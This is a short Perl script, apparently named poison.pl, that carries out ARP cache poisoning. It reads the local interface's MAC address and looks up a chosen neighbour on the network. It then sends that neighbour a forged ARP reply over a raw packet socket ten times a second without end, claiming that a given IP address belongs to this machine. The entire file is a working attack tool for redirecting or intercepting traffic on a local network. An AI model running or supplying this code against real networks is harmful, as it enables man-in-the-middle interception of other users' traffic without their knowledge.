# Tells a neighbour, ten times a second, that an address is at this machine: poison.pl INTERFACE ADDRESS NEIGHBOUR
use strict;
use warnings;
use POSIX ();
use Socket;

my ($interface, $address, $neighbour) = @ARGV;
my ($AF_PACKET, $ARP) = (17, 0x0806);
sub of { open my $file, '<', "/sys/class/net/$interface/$_[0]" or die "$interface: $!\n"; chomp(my $line = <$file>); return $line }
my ($index, $mac) = (of('ifindex'), of('address'));
$mac =~ tr/://d;
my ($entry) = grep { /^\Q$neighbour\E / } `ip neighbour show dev $interface`;
my ($target) = ($entry // '') =~ /lladdr ([0-9a-f:]+)/ or die "$neighbour is no neighbour\n";
$target =~ tr/://d;

socket my $wire, $AF_PACKET, SOCK_RAW, 0 or die "No packet socket: $!\n";
my $frame = pack('H12H12n', $target, $mac, $ARP)
  . pack('nnCCnH12a4H12a4', 1, 0x0800, 6, 4, 2, $mac, inet_aton($address), $target, inet_aton($neighbour));
for (;;) {
    send $wire, $frame, 0, pack 'SniSCCa8', $AF_PACKET, $ARP, $index, 1, 0, 6, pack 'H12', $target;
    select undef, undef, undef, 0.1;
}
